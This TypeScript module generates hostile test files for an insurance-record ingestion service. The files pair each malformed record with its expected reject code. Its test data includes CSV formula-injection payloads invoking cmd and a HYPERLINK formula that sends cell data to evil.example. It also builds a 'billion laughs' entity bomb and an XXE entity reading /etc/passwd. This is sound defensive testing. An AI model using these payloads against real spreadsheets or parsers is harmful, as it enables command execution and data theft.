import { buildCanonicalEvent, type RecordKind, type RejectCode } from '@ajx/contracts';
import { canonicalRecords, NATIVE_FORMATS, Noise, Random, type SimulatedRecord } from '@ajx/simulation';

/*
 * A generated, deterministic corpus of hostile records for the four native formats (issue 11, bad input). Each file
 * holds valid records with hostile ones among them; every hostile record has the reject code the data standard
 * gives it, and the valid records of the same file must all reach the canonical store. Nothing is checked in: the
 * files are rendered from the record generator (`@ajx/simulation`) and then made hostile in the format's own
 * structure (a field holding NUL, a 40 000-character name, a value nested 5 000 levels deep, a number beyond a
 * double, a record cut in half, a value of the wrong type, bytes invalid in the file's encoding) — or left as data
 * (spreadsheet formulas: `=`, `+`, `-`, `@` prefixes are text to the standard and must arrive unchanged).
 */

export const HOSTILE_KINDS = [
  'nul',
  'control-chars',
  'huge-field',
  'deep-nesting',
  'out-of-range',
  'truncated',
  'wrong-type',
  'bad-encoding',
  'csv-injection',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

/** Spreadsheet formula payloads (CSV/formula injection): stored verbatim as text, never evaluated, never changed. */
export const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?x="&A1,"查看")`,
] as const;

/**
 * What the standard makes of each hostile kind in each format: a reject code, `ok` (accepted, value unchanged) or
 * `null` where the format cannot carry it (CSV has no nesting; a record cut in half inside one JSON or XML document
 * is a broken file, covered by the whole-file cases).
 */
export const HOSTILE_OUTCOME: Record<string, Record<HostileKind, RejectCode | 'ok' | null>> = {
  PICC: {
    nul: 'MALFORMED_RECORD',
    'control-chars': 'ok',
    'huge-field': 'FIELD_TOO_LONG',
    'deep-nesting': null,
    'out-of-range': 'INVALID_NUMBER',
    truncated: 'MALFORMED_RECORD',
    'wrong-type': 'INVALID_NUMBER',
    'bad-encoding': 'MALFORMED_RECORD',
    'csv-injection': 'ok',
  },
  PINGAN: {
    nul: 'MALFORMED_RECORD',
    'control-chars': 'ok',
    'huge-field': 'FIELD_TOO_LONG',
    'deep-nesting': 'MALFORMED_RECORD',
    'out-of-range': 'INVALID_NUMBER',
    truncated: 'MALFORMED_RECORD',
    'wrong-type': 'MALFORMED_RECORD',
    'bad-encoding': 'MALFORMED_RECORD',
    'csv-injection': 'ok',
  },
  CPIC: {
    nul: null,
    'control-chars': null,
    'huge-field': 'FIELD_TOO_LONG',
    'deep-nesting': 'MALFORMED_RECORD',
    'out-of-range': 'INVALID_NUMBER',
    truncated: null,
    'wrong-type': 'INVALID_NUMBER',
    'bad-encoding': 'MALFORMED_RECORD',
    'csv-injection': 'ok',
  },
  DADI: {
    nul: 'MALFORMED_RECORD',
    'control-chars': 'ok',
    'huge-field': 'FIELD_TOO_LONG',
    'deep-nesting': 'MALFORMED_RECORD',
    'out-of-range': 'INVALID_NUMBER',
    truncated: null,
    'wrong-type': 'MALFORMED_RECORD',
    'bad-encoding': 'MALFORMED_RECORD',
    'csv-injection': 'ok',
  },
};

export function hostileKindsOf(insurer: string): HostileKind[] {
  return HOSTILE_KINDS.filter((k) => HOSTILE_OUTCOME[insurer][k] !== null);
}

export type CorpusOutcome =
  | {
      recordIndex: number;
      ok: true;
      kind: RecordKind;
      subject: string;
      hostile: HostileKind | null;
      /** For a hostile value kept as data: the enterprise name as it must be stored, unchanged. */
      storedName?: string;
    }
  | { recordIndex: number; ok: false; code: RejectCode; hostile: HostileKind };

export interface CorpusFile {
  insurer: string;
  bytes: Buffer;
  outcomes: CorpusOutcome[];
}

const BAD_BYTES = 'ZQBADBYTESQZ';
const OUT_OF_RANGE = 'ZQOUTOFRANGEQZ';
const DEEP = 'ZQDEEPQZ';
const DEPTH = 5000;
const CONTROL_NAME = `宁波\u0007化工\u001b[31m有限公司`;
/** Where each format keeps the enterprise name and a count field (per kind), in its native structure. */
const NAME_PATH: Record<string, string> = {
  PICC: '企业名称',
  PINGAN: 'insured.name',
  CPIC: 'Insured.Name',
  DADI: 'qymc',
};
const COUNT_PATH: Record<string, Record<RecordKind, string>> = {
  PICC: { policy: '从业人数', service: '发现隐患数', hazard: '版本', accident: '死亡人数', claim: '涉及人数' },
  PINGAN: {
    policy: 'insuredCount',
    service: 'dangerCount',
    hazard: 'seq',
    accident: 'deathCount',
    claim: 'victimCount',
  },
  CPIC: {
    policy: 'InsuredPersons',
    service: 'HazardsFound',
    hazard: '@seq',
    accident: 'Casualties.@deaths',
    claim: 'Victims',
  },
  DADI: { policy: 'cyrs', service: 'yhs', hazard: 'bbh', accident: 'swrs', claim: 'sjrs' },
};

function objectOf(insurer: string, native: Record<string, unknown>): Record<string, unknown> {
  if (insurer === 'PICC') return native.row as Record<string, unknown>;
  if (insurer === 'CPIC') return native.el as Record<string, unknown>;
  return native.obj as Record<string, unknown>;
}

function set(obj: Record<string, unknown>, path: string, value: unknown): void {
  const parts = path.split('.');
  let o = obj;
  for (const p of parts.slice(0, -1)) {
    if (typeof o[p] !== 'object' || o[p] === null) o[p] = {};
    o = o[p] as Record<string, unknown>;
  }
  o[parts[parts.length - 1]] = value;
}

/** Makes the rendered record hostile; returns text to post-process the serialized record with, if any. */
function makeHostile(
  insurer: string,
  kind: RecordKind,
  native: Record<string, unknown>,
  hostile: HostileKind,
  n: number,
) {
  const o = objectOf(insurer, native);
  switch (hostile) {
    case 'nul':
      set(o, NAME_PATH[insurer], '宁波\u0000化工有限公司');
      return;
    case 'control-chars':
      set(o, NAME_PATH[insurer], CONTROL_NAME);
      return;
    case 'huge-field':
      set(o, NAME_PATH[insurer], '企'.repeat(40_000));
      return;
    case 'deep-nesting':
      // Replaced after serializing: JSON formats get a value nested 5 000 objects deep, CPIC 5 000 elements.
      set(o, NAME_PATH[insurer], DEEP);
      return;
    case 'out-of-range':
      set(o, COUNT_PATH[insurer][kind], OUT_OF_RANGE);
      return;
    case 'truncated':
      if (insurer === 'PINGAN') native.broken = true;
      return;
    case 'wrong-type':
      set(o, COUNT_PATH[insurer][kind], insurer === 'PICC' || insurer === 'CPIC' ? '三十' : { n: 30 });
      return;
    case 'bad-encoding':
      set(o, NAME_PATH[insurer], `宁波${BAD_BYTES}化工`);
      return;
    case 'csv-injection':
      set(o, NAME_PATH[insurer], FORMULAS[n % FORMULAS.length]);
      return;
  }
}

function replaceAll(buf: Buffer, marker: string, by: Buffer): Buffer {
  const m = Buffer.from(marker);
  const parts: Buffer[] = [];
  let from = 0;
  for (let at = buf.indexOf(m, from); at >= 0; at = buf.indexOf(m, from)) {
    parts.push(buf.subarray(from, at), by);
    from = at + m.length;
  }
  parts.push(buf.subarray(from));
  return Buffer.concat(parts);
}

/**
 * One file of `records` records of `insurer`: every `every`-th record (from the second) is hostile, cycling through
 * the kinds the format can carry; the rest are valid. Deterministic for a seed.
 */
export function hostileFile(insurer: string, seed: string, records: number, every = 2, kind?: RecordKind): CorpusFile {
  const format = NATIVE_FORMATS[insurer];
  const root = new Random(seed);
  const noise = new Noise(root.fork('noise'), 0);
  const renderRng = root.fork('render');
  const fileKind = kind ?? 'policy';
  const source = canonicalRecords(root.fork('records'), {
    insurer,
    profile: format.profile,
    kinds: format.mixedKinds ? undefined : [fileKind],
  });
  const kinds = hostileKindsOf(insurer);
  const options = {
    declaredInsurer: insurer,
    batchNo: `HOSTILE${seed.replace(/[^0-9A-Za-z]/g, '').slice(0, 10)}`,
    kind: fileKind,
  };
  const texts: string[] = [];
  const outcomes: CorpusOutcome[] = [];
  let hostileCount = 0;
  for (let i = 1; i <= records; i++) {
    const sim = source.next().value as SimulatedRecord;
    const native = format.render(sim, noise, renderRng) as Record<string, unknown>;
    const hostile = i % every === 0 ? kinds[hostileCount++ % kinds.length] : null;
    if (hostile) makeHostile(insurer, sim.kind, native, hostile, hostileCount);
    let text = format.serialize(native, renderRng, noise);
    if (hostile === 'out-of-range') {
      text = text.replace(
        insurer === 'PINGAN' || insurer === 'DADI' ? `"${OUT_OF_RANGE}"` : OUT_OF_RANGE,
        insurer === 'CPIC' || insurer === 'PICC' ? '1e400' : '1e400',
      );
    }
    if (hostile === 'deep-nesting') {
      text =
        insurer === 'CPIC'
          ? text.replace(DEEP, `${'<a>'.repeat(DEPTH)}x${'</a>'.repeat(DEPTH)}`)
          : text.replace(`"${DEEP}"`, `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`);
    }
    if (hostile === 'truncated' && insurer === 'PICC') text = text.slice(0, Math.floor(text.length / 3));
    texts.push(text);
    const subject = buildCanonicalEvent(insurer, sim.kind, sim.record, sim.time).subject;
    const expected = hostile ? HOSTILE_OUTCOME[insurer][hostile] : 'ok';
    if (expected === 'ok' || expected === null) {
      const storedName =
        hostile === 'csv-injection'
          ? FORMULAS[hostileCount % FORMULAS.length]
          : hostile === 'control-chars'
            ? CONTROL_NAME
            : undefined;
      outcomes.push({
        recordIndex: i,
        ok: true,
        kind: sim.kind,
        subject,
        hostile,
        ...(storedName ? { storedName } : {}),
      });
    } else outcomes.push({ recordIndex: i, ok: false, code: expected, hostile: hostile! });
  }
  const body =
    format.head(options) +
    texts.map((t, i) => t + (!format.separatorBetweenOnly || i < texts.length - 1 ? format.separator : '')).join('') +
    format.tail(options);
  let bytes = format.encode(body);
  // Bytes that are not text in the file's encoding: 0xFF is no lead byte in GB18030 and no byte of UTF-8.
  bytes = replaceAll(bytes, BAD_BYTES, Buffer.from([0xff, 0xfe, 0x80]));
  return { insurer, bytes, outcomes };
}

/** Whole files that are not whole: each is refused as a whole (422 MALFORMED_FILE) with a specific message. */
export function hostileWholeFiles(): { insurer: string; name: string; body: Buffer; message: RegExp }[] {
  const valid = (insurer: string) => hostileFile(insurer, `whole-${insurer}`, 6, 1000).bytes;
  const cpic = valid('CPIC').toString('utf8');
  const dadi = valid('DADI').toString('utf8');
  return [
    {
      insurer: 'CPIC',
      name: 'truncated XML',
      body: Buffer.from(cpic.slice(0, cpic.length - 40)),
      message: /not well-formed XML: .*unclosed tag/,
    },
    {
      insurer: 'CPIC',
      name: 'billion laughs',
      body: Buffer.from(
        cpic.replace(
          '\n<AJXBatch',
          `\n<!DOCTYPE AJXBatch [<!ENTITY a "${'a'.repeat(10)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>\n<AJXBatch`,
        ),
      ),
      message: /a DOCTYPE \(and with it entity declarations\) is not allowed/,
    },
    {
      insurer: 'CPIC',
      name: 'external entity',
      body: Buffer.from(
        cpic
          .replace('\n<AJXBatch', '\n<!DOCTYPE AJXBatch [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<AJXBatch')
          .replace('<Name>', '<Name>&xxe;'),
      ),
      message: /a DOCTYPE \(and with it entity declarations\) is not allowed/,
    },
    {
      insurer: 'CPIC',
      name: 'declared encoding is not UTF-8',
      body: Buffer.from(cpic.replace('encoding="UTF-8"', 'encoding="UTF-16"')),
      message: /encoding UTF-16 is not UTF-8/,
    },
    {
      insurer: 'CPIC',
      name: 'UTF-16 bytes',
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(cpic, 'utf16le')]),
      message: /not well-formed XML/,
    },
    {
      insurer: 'CPIC',
      name: 'NUL character (not allowed anywhere in XML)',
      body: Buffer.from(cpic.replace('<Name>', '<Name>\u0000')),
      message: /disallowed character/,
    },
    {
      insurer: 'CPIC',
      name: 'C0 control characters (not allowed in XML 1.0)',
      body: Buffer.from(cpic.replace('<Name>', '<Name>\u0007\u001b[31m')),
      message: /disallowed character/,
    },
    {
      insurer: 'CPIC',
      name: 'not XML at all',
      body: Buffer.from('{"gsdm":"CPIC"}'),
      message: /not well-formed XML: .*outside of root node/,
    },
    {
      insurer: 'DADI',
      name: 'truncated JSON',
      body: Buffer.from(dadi.slice(0, dadi.length - 30)),
      message: /top-level JSON is invalid/,
    },
    {
      insurer: 'DADI',
      name: 'document nested 100 000 deep',
      body: Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      message: /top-level JSON is not one object/,
    },
    {
      insurer: 'DADI',
      name: 'UTF-16 bytes',
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(dadi, 'utf16le')]),
      message: /top-level JSON is invalid/,
    },
    {
      insurer: 'DADI',
      name: 'records not an array',
      body: Buffer.from('{"gsdm":"DADI","pch":"p","sj":"x"}'),
      message: /"sj" is not an array/,
    },
    { insurer: 'DADI', name: 'empty body', body: Buffer.alloc(0), message: /top-level JSON is invalid/ },
    {
      insurer: 'PICC',
      name: 'header of another format',
      body: Buffer.from('policyNo,insured,premium\r\nP1,x,1\r\n'),
      message: /the header is not one of the PICC headers \(policy, service, hazard, accident, claim\)/,
    },
  ];
}
